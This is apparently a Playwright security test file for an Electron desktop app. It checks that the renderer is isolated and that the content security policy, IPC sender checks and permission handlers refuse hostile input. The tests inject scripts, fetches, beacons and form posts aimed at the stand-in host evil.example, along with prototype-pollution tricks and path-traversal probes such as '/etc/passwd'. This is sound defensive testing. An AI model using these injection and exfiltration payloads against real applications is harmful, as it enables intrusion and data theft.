import { expect, type Page } from 'playwright/test'
import { asPackaged } from './as-packaged.ts'
import { HOSTILE_TARGETS } from '../shell/support/hostile-targets.ts'
import type { Standin } from '../standin/control.ts'
import { test } from './fixtures.ts'

/** Waits until all the page did before has reached the main process: what it asks goes the same way. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(() =>
    (window as unknown as { keelson: { request(json: string): Promise<string> } }).keelson.request(
      JSON.stringify({ id: crypto.randomUUID(), route: 'app.status', input: {} }),
    ),
  )
}

test('a page has no Node, no Electron and no way to either but four functions', async ({ launch }) => {
  const page = await (await launch(asPackaged())).window()
  expect(
    await page.evaluate(() => {
      const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer', 'contextBridge']
      const shape = (value: unknown): unknown =>
        typeof value === 'function'
          ? 'function'
          : typeof value === 'object' && value !== null
            ? Object.fromEntries(Object.keys(value).map(key => [key, shape(Reflect.get(value, key))]))
            : typeof value
      return {
        there: names.filter(name => Reflect.get(window, name) !== undefined),
        bridge: shape(Reflect.get(window, 'keelson')),
        opener: window.opener === null,
        parent: window.parent === window,
      }
    }),
  ).toEqual({
    there: [],
    bridge: { request: 'function', cancel: 'function', onEvent: 'function', onScreen: 'function' },
    opener: true,
    parent: true,
  })
})

test('prototypes a page has spoilt do not change what the preload does', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  const { answers, caught } = await page.evaluate(async isReal => {
    const { keelson } = window as unknown as {
      keelson: { request(json: unknown): Promise<string>; cancel(id: unknown): void; onEvent(listener: (json: string) => void): () => void }
    }
    const stolen: string[] = []
    const own = { String: window.String, stringify: JSON.stringify, invoke: Function.prototype.call }
    const json = JSON.stringify({ id: 'spoilt', route: 'app.status', input: {} })
    Object.defineProperty(Object.prototype, 'ipcRenderer', {
      configurable: true,
      get: () => undefined,
      set(value) {
        stolen.push(typeof value)
      },
    })
    // The bridge of the stand-in is script in the page itself, and JSON.
    if (isReal) Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, value: () => 'keelson:other' })
    window.String = (() => 'keelson:other') as unknown as StringConstructor
    const before = Array.prototype.push
    Array.prototype.push = function push(this: unknown[], ...items: unknown[]) {
      for (const item of items) if (typeof item === 'object' && item !== null && 'senderId' in item) stolen[stolen.length] = 'event'
      return before.apply(this, items)
    }
    const answers = [await keelson.request(json), await keelson.request({ toString: () => json })].map(text =>
      own.stringify(text).includes('version'),
    )
    const stop = keelson.onEvent(() => undefined)
    keelson.cancel('spoilt')
    stop()
    window.String = own.String
    Array.prototype.push = before
    Reflect.deleteProperty(Object.prototype, 'toJSON')
    Reflect.deleteProperty(Object.prototype, 'ipcRenderer')
    return { answers, caught: stolen }
  }, desktop.kind === 'electron')
  expect(answers[0]).toBe(true)
  expect(caught).toEqual([])
})

test('whatever is put into the page stays without effect, and is reported', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  const asked: string[] = []
  page.on('response', response => asked.push(response.url()))
  const { ran, reported } = await page.evaluate(async () => {
    const reported: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void reported.push(effectiveDirective))
    const ran: string[] = []
    Object.assign(window, { ran: (what: string) => void ran.push(what) })
    const evil = 'https://evil.example'
    const put = (tag: string, properties: Record<string, string>): void => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(properties)) {
        try {
          if (name === 'text') element.append(value)
          else element.setAttribute(name, value)
        } catch {
          // Refused already.
        }
      }
      document.body.append(element)
    }
    const attempt = async (work: () => unknown): Promise<void> => {
      // Outside the call of the test, which may do what a page may not.
      const { promise, resolve } = Promise.withResolvers<unknown>()
      setTimeout(() => {
        try {
          resolve(work())
        } catch {
          resolve(null)
        }
      })
      await promise.catch(() => undefined)
    }
    await attempt(() => put('script', { text: "ran('inline script')" }))
    await attempt(() => put('script', { src: `${evil}/x.js` }))
    await attempt(() => put('script', { src: "data:text/javascript,ran('data')" }))
    await attempt(() => put('img', { src: `${evil}/x.png` }))
    await attempt(() => put('img', { src: 'http://evil.example/y.png' }))
    await attempt(() => put('img', { src: 'data:,', onerror: "ran('handler')" }))
    await attempt(() => put('link', { rel: 'stylesheet', href: `${evil}/x.css` }))
    await attempt(() => put('link', { rel: 'manifest', href: `${evil}/x.json` }))
    await attempt(() => put('iframe', { src: `${evil}/` }))
    await attempt(() => put('iframe', { src: 'data:text/html,<script>parent.ran("frame")</script>' }))
    await attempt(() => put('object', { data: `${evil}/x.swf` }))
    await attempt(() => put('embed', { src: `${evil}/x.swf` }))
    await attempt(() => put('video', { src: `${evil}/x.mp4` }))
    await attempt(() => put('base', { href: `${evil}/` }))
    await attempt(() => void (document.body.innerHTML += "<img src=x onerror=ran('markup')>"))
    await attempt(() => document.write("<script>ran('written')</script>"))
    // oxlint-disable-next-line no-eval
    await attempt(() => void window.eval("ran('eval')"))
    await attempt(() => Reflect.apply(Reflect.construct(Function, ["ran('function')"]) as () => void, null, []))
    await attempt(() => void Reflect.apply(setTimeout, window, ["ran('timer')"]))
    await attempt(() => import('data:text/javascript,ran("import")' as string))
    await attempt(() => new Worker(`${location.origin}/assets/x.js`))
    await attempt(() => fetch(`${evil}/x`))
    await attempt(() => new WebSocket('wss://evil.example/'))
    await attempt(() => new EventSource(`${evil}/x`))
    await attempt(() => navigator.sendBeacon(`${evil}/x`, 'x'))
    await attempt(() => new FontFace('x', `url(${evil}/x.woff2)`).load())
    await attempt(() => {
      put('form', { action: `${evil}/`, method: 'post', id: 'hostile' })
      document.querySelector<HTMLFormElement>('#hostile')?.submit()
    })
    await attempt(() => {
      put('a', { href: "javascript:ran('link')", id: 'script-link' })
      document.querySelector<HTMLAnchorElement>('#script-link')?.click()
    })
    await attempt(() => put('webview', { src: `${evil}/` }))
    // A form is refused later than it is sent.
    while (!reported.includes('form-action')) await new Promise<void>(done => void setTimeout(done, 20))
    return { ran, reported: [...new Set(reported)].sort() }
  })
  await settled(page)
  expect(ran).toEqual([])
  // Handlers, eval, plug-ins and written markup end at the trusted types already, before their own rules are asked.
  expect(reported).toEqual([
    'base-uri',
    'connect-src',
    'font-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'require-trusted-types-for',
    'script-src-elem',
    'style-src-elem',
  ])
  expect(asked.filter(url => url.includes('evil.example'))).toEqual([])
  expect(await desktop.windows()).toBe(1)
})

test('no attempt of a page leads its window anywhere else or opens another', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  const home = page.url()
  await page.evaluate(() => void Object.assign(window, { mark: true }))
  await desktop.evaluate(({ BrowserWindow }) => {
    const led: string[] = []
    Object.assign(globalThis, { led })
    BrowserWindow.getAllWindows()[0]?.webContents.on('will-navigate', event => void led.push(event.url))
  })
  // Chromium itself makes a blank or an error page of these, and asks nobody.
  const targets = HOSTILE_TARGETS.filter(url => !/^(?:about|filesystem|chrome-extension):/.test(url))
  for (const target of targets)
    for (const way of ['href', 'replace', 'click'] as const) {
      await page.evaluate(
        ([url, how]) => {
          const link = Object.assign(document.createElement('a'), { href: url })
          document.body.append(link)
          try {
            if (how === 'href') location.href = url
            else if (how === 'replace') location.replace(url)
            else link.click()
          } catch {
            // Refused already.
          }
          link.remove()
        },
        [target, way] as const,
      )
      await settled(page)
    }
  await page.evaluate(() => {
    const refresh = document.createElement('meta')
    refresh.httpEquiv = 'refresh'
    refresh.content = '0; url=https://evil.example/refreshed'
    document.head.append(refresh)
    document.querySelector('a')?.dispatchEvent(new DragEvent('drop', { bubbles: true, dataTransfer: new DataTransfer() }))
  })
  await expect
    .poll(() => desktop.evaluate(() => (globalThis as unknown as { led: string[] }).led))
    .toContain('https://evil.example/refreshed')
  const led = await desktop.evaluate(() => (globalThis as unknown as { led: string[] }).led)
  expect(new Set(led).size).toBeGreaterThan(5)
  expect(targets.length).toBeGreaterThanOrEqual(40)
  expect(await page.evaluate(() => 'mark' in window)).toBe(true)
  expect(page.url()).toBe(home)
  expect(await desktop.windows()).toBe(1)
  expect(await desktop.opened()).toEqual([])
})

test('links and clicks of every kind open no window, and only pages of brokers in the browser', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  await page.evaluate(urls => {
    for (const [at, url] of urls.entries()) {
      const link = Object.assign(document.createElement('a'), {
        href: url,
        target: '_blank',
        textContent: `link ${at}`,
        className: 'planted',
      })
      document.body.append(link)
      for (const features of ['', 'width=100,nodeIntegration=1', 'noopener']) {
        try {
          window.open(url, '_blank', features)
        } catch {
          // Not even an address.
        }
      }
    }
  }, HOSTILE_TARGETS)
  const first = page.locator('a.planted').first()
  for (const options of [
    {},
    { button: 'middle' },
    { modifiers: ['Shift'] },
    { modifiers: ['ControlOrMeta'] },
    { modifiers: ['Alt'] },
  ] as const)
    await first.dispatchEvent('click', options)
  await settled(page)
  expect(await desktop.opened()).toEqual([])
  await page.evaluate(() => void window.open('https://developer.schwab.com/dashboard/apps'))
  await expect.poll(() => desktop.opened()).toEqual(['https://developer.schwab.com/dashboard/apps'])
  expect(await desktop.windows()).toBe(1)
})

test('documents come from the app alone, each with its policy, and nothing lies outside them', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  const asked: string[] = []
  page.on('request', request => asked.push(request.url()))
  const complaints: string[] = []
  page.on('console', message => complaints.push(message.text()))
  await page.reload()
  await page.getByRole('button', { name: 'Explore with sandbox brokers' }).waitFor()
  for (const name of ['history', 'positions', 'brokers', 'import', 'health', 'settings'])
    await page.evaluate(hash => void (location.hash = hash), `#/${name}`)
  expect(complaints.filter(text => /policy|violat|refused/i.test(text))).toEqual([])
  const own = new URL(page.url()).origin
  expect(asked.length).toBeGreaterThan(2)
  expect(asked.filter(url => new URL(url).origin !== own && !url.startsWith('data:image/'))).toEqual([])
  const answers = await page.evaluate(async () => {
    const climbs = [
      '/..%2fpackage.json',
      '/..%2f..%2fpackage.json',
      '/..%5c..%5cpackage.json',
      '/%2e%2e/%2e%2e/package.json',
      '//package.json',
      '/assets/..%2f..%2fmain%2findex.js',
      '/%00',
      '/INDEX.HTML',
      '/etc/passwd',
      '/package.json',
    ]
    const found = await Promise.all(
      climbs.map(
        async path =>
          [
            path,
            await fetch(path).then(
              ({ status }) => status,
              () => 404,
            ),
          ] as const,
      ),
    )
    const documents = await Promise.all(
      ['/', '/index.html', '/nothing'].map(async path => (await fetch(path)).headers.get('content-security-policy')),
    )
    return { found: found.filter(([, status]) => status !== 404), documents }
  })
  expect(answers.found).toEqual([])
  expect(new Set(answers.documents)).toEqual(
    new Set([
      "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'self'; " +
        "media-src 'none'; object-src 'none'; frame-src 'none'; worker-src 'none'; manifest-src 'none'; base-uri 'none'; form-action 'none'; " +
        "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types default",
    ]),
  )
})

test('the main process answers two channels, and refuses strangers on both', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  await desktop.window()
  const heard = await desktop.evaluate(async ({ ipcMain, BrowserWindow }) => {
    const handlers = (ipcMain as unknown as { _invokeHandlers: Map<string, (event: unknown, json: string) => Promise<unknown>> })
      ._invokeHandlers
    const id = BrowserWindow.getAllWindows()[0]?.webContents.id
    const page = 'app://keelson/index.html'
    const strangers = [
      { sender: { id }, senderFrame: { url: page, parent: {} } },
      { sender: { id }, senderFrame: { url: 'https://evil.example/', parent: {} } },
      { sender: { id: 99 }, senderFrame: { url: 'devtools://devtools/bundled/inspector.html', parent: null } },
      { sender: { id }, senderFrame: null },
    ]
    const said: string[] = []
    for (const [, handler] of handlers)
      for (const event of strangers)
        said.push(
          await handler(event, '{"id":"a","route":"app.status","input":{}}').then(
            () => 'answered',
            (error: unknown) => String(error),
          ),
        )
    return {
      handled: [...handlers.keys()],
      listened: ipcMain.eventNames().filter(name => String(name).startsWith('keelson')),
      said: [...new Set(said)],
    }
  })
  expect(heard).toEqual({ handled: ['keelson:request'], listened: ['keelson:cancel'], said: ['Error: refused'] })
})

test('every permission a page could ask for is refused', async ({ launch }) => {
  const desktop = await launch(asPackaged())
  const page = await desktop.window()
  test.skip(desktop.kind !== 'standin', 'Electron asks its handlers by itself only when a page asks')
  const url = await desktop.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL() ?? '')
  expect(url).toMatch(/^app:\/\/keelson\//)
  const granted = await desktop.evaluate(async ({ BrowserWindow }, from) => {
    const { standin } = globalThis as unknown as { standin: Standin }
    const contents = BrowserWindow.getAllWindows()[0]?.webContents
    const names = [
      'media',
      'geolocation',
      'notifications',
      'midi',
      'midiSysex',
      'pointerLock',
      'fullscreen',
      'openExternal',
      'usb',
      'serial',
      'hid',
      'clipboard-read',
      'clipboard-sanitized-write',
      'loopback-network',
      'local-network',
      'unknown',
    ]
    const asked = await Promise.all(
      names.map(
        async name => [name, await standin.requestPermission(contents, name, from), standin.checkPermission(contents, name, from)] as const,
      ),
    )
    return asked.filter(([, request, check]) => request || check).map(([name]) => name)
  }, url)
  expect(granted).toEqual(['clipboard-sanitized-write'])
  expect(
    await page.evaluate(() =>
      navigator.mediaDevices?.getUserMedia({ audio: true }).then(
        () => 'granted',
        () => 'refused',
      ),
    ),
  ).not.toBe('granted')
})
